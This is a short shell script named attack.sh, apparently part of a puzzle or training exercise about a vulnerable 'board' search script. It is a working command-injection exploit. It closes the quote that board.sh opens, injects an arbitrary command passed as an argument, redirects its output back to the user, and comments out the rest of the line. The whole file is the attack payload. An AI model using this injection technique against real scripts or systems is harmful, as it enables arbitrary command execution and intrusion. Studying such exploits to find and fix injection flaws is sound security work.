#!/bin/sh
# A traveller who has found the hole in the search: sends COMMAND through it and prints what comes back.
# usage: sh attack.sh 'COMMAND'
cd "$(dirname "$0")"
# Ends the quote that the board opened, adds COMMAND, and makes a comment of the rest of the line.
exec sh board.sh "x' /dev/null; { $1
} 2>&1 #"
